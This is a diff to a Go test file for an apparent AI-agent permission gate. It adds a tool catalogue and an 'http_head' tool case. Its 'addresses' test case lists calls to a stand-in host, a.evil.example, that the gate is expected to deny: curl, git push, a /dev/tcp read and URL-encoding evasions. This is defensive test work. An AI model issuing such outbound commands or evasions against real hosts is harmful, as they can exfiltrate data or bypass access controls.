@@ -9,6 +9,7 @@ import (
 	"strings"
 	"testing"
 
+	"github.com/zeph-acp/zeph-acp/cmd/zeph-acp/catalogue/cataloguetest"
 	"github.com/zeph-acp/zeph-acp/executors"
 	"github.com/zeph-acp/zeph-acp/executors/command"
 	"github.com/zeph-acp/zeph-acp/executors/gates/rules/target"
@@ -45,7 +46,7 @@ func newWorkspace(t testing.TB) workspace {
 
 func (w workspace) options() Options {
 	return Options{
-		Session: target.Session{Cwd: w.cwd, Home: "/home/u"}, Roots: []string{w.cwd},
+		Session: target.Session{Cwd: w.cwd, Home: "/home/u"}, Roots: []string{w.cwd}, Tools: cataloguetest.Known,
 		Getenv: func(name string) string { return map[string]string{"CI": "1"}[name] },
 	}
 }
@@ -65,14 +66,15 @@ func (w workspace) real(path string) string {
 // a tool for files with its paths.
 func (w workspace) call(text string) *executors.Call {
 	tool, rest, _ := strings.Cut(text, " ")
-	c := &executors.Call{Tool: tool, Record: &executors.Record{}, Spec: executors.Tool{Name: tool}}
+	c := &executors.Call{Tool: tool, Record: &executors.Record{}, Spec: cataloguetest.Spec(tool)}
+	c.Spec.Name = tool
 	input := map[string]any{}
 	switch {
 	case tool == "bash":
 		c.Card = executors.Card{Kind: executors.KindExecute, Script: command.Parse(rest, command.Shell{Dir: w.cwd, Home: "/home/u"})}
 		c.Spec.Effect = executors.Mutates
 		input["command"] = rest
-	case tool == "fetch":
+	case tool == "fetch", tool == "http_head":
 		c.Card, input["url"] = executors.Card{Kind: executors.KindFetch, URL: rest}, rest
 	case strings.Contains(tool, "__"):
 		c.Spec.Server, _, _ = strings.Cut(tool, "__")
@@ -170,7 +172,7 @@ func TestRules(t *testing.T) {
 		{
 			name: "addresses", rules: []Rule{deny("*", "*.evil.example", "https://example.com/admin*"), allow("fetch", "https://*.example.com/*", "https://example.com")},
 			denied: []string{
-				"fetch https://a.evil.example/x", "fetch http://A.EVIL.example./", "fetch https://example.com/%61dmin/x", "fetch https://EXAMPLE.com:443/admin", "bash curl http://a.evil.example", "bash curl a.evil.example/x", "bash git push git@a.evil.example:x",
+				"fetch https://a.evil.example/x", "http_head https://a.evil.example/x", "fetch http://A.EVIL.example./", "fetch https://example.com/%61dmin/x", "fetch https://EXAMPLE.com:443/admin", "bash curl http://a.evil.example", "bash curl a.evil.example/x", "bash git push git@a.evil.example:x",
 				`s__get {"url":"https://a.evil.example/"}`, "bash cat </dev/tcp/a.evil.example/80", "bash curl --proxy=http://a.evil.example x",
 			},
 			allowed: []string{"fetch https://example.com/x", "fetch https://a.example.com/x"},
